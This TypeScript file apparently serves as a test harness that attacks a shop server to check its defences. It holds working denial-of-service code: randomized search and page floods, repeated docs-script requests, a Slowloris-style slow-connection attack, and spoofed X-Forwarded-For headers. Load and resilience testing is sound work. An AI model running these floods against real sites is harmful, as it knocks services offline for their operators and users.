/** Denial of service from one IP address in its own process, until it gets a message: `attacker.ts <attack> <url>`. */
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setPriority } from 'node:os';
import { setTimeout as pause } from 'node:timers/promises';

export type Attack = 'searches' | 'reference' | 'pages' | 'slow connections';

const CLIENT_IP = '198.51.100.7';
/** A loopback address that is not a trusted proxy. */
const DIRECT_IP = '127.0.0.2';
const SLOW_CONNECTIONS = 1_000;
const TERMS = ['crystal', 'silver', 'evening', 'gown', 'ring', 'rose', 'gold', 'blue', 'light', 'hand', 'set', 'small'];
const FILTERS = [
  'minPrice=20',
  'maxPrice=300',
  'rating=4',
  'category=Jewelry',
  'sortBy=price-asc',
  'size=M',
  'tags=gift',
];

const [, , attack = '', url = ''] = process.argv;
const statuses: Record<string, number> = {};
// Lowest priority: a real attacker would not use this machine's processor.
setPriority(19);
const agent = new Agent({ keepAlive: true, maxSockets: 100 });
const randomOf = <T>(list: T[]) => list[Math.floor(Math.random() * list.length)] as T;

const count = (what: string | number) => {
  statuses[what] = (statuses[what] ?? 0) + 1;
};
process.on('message', () => process.send?.(statuses, () => process.exit(0)));
process.on('disconnect', () => process.exit(0));

const sendRequest = (path: string) =>
  new Promise<string>((resolve) => {
    const headers = { 'x-forwarded-for': CLIENT_IP, 'accept-encoding': 'br, gzip' };
    request(url + path, { agent, headers }, (response) => {
      count(response.statusCode ?? 0);
      let body = '';
      response.on('data', (chunk: Buffer) => {
        if (body.length < 10_000) body += chunk.toString('latin1');
      });
      response.once('close', () => resolve(body));
    })
      .once('error', () => {
        count('error');
        resolve('');
      })
      .end();
  });

/** At a fixed rate, without waiting for responses. */
async function sendEverySecond(times: number, pathOf: () => string) {
  for (;;) {
    void sendRequest(pathOf());
    await pause(1_000 / times);
  }
}

const ATTACKS: Record<Attack, () => Promise<unknown>> = {
  searches: () =>
    sendEverySecond(20, () => {
      const query = `q=${randomOf(TERMS)}+${randomOf(TERMS)}&${randomOf(FILTERS)}&${randomOf(FILTERS)}`;
      return randomOf([`/search?${query}`, `/api/products?${query}`, `/api/products/facets?${query}`]);
    }),
  pages: () =>
    sendEverySecond(250, () => `${randomOf(['/login', '/register', '/terms', '/track-order'])}?x=${Math.random()}`),
  async reference() {
    const page = await fetch(`${url}/api/docs/`, { headers: { 'accept-encoding': 'identity' } });
    const script = /\/api\/docs\/scalar[^"']*\.js|js\/scalar\.js/.exec(await page.text())?.[0] ?? '';
    const path = script.startsWith('/') ? script : `/api/docs/${script}`;
    const repeatRequest = async () => {
      for (;;) {
        await sendRequest(path);
        await pause(10);
      }
    };
    return Promise.all(Array.from({ length: 20 }, repeatRequest));
  },
  async 'slow connections'() {
    const { hostname, port } = new URL(url);
    const open = () => {
      const socket = connect({ host: hostname, port: Number(port), localAddress: DIRECT_IP });
      socket.write('GET / HTTP/1.1\r\nhost: shop\r\nx-slow: ');
      const trickle = setInterval(() => socket.write('x'), 1_000);
      socket.once('connect', () => count('connected'));
      socket.on('error', () => {});
      socket.once('close', () => {
        clearInterval(trickle);
        setTimeout(open, 1_000);
      });
    };
    for (let i = 0; i < SLOW_CONNECTIONS; i++) open();
  },
};

await ATTACKS[attack as Attack]();
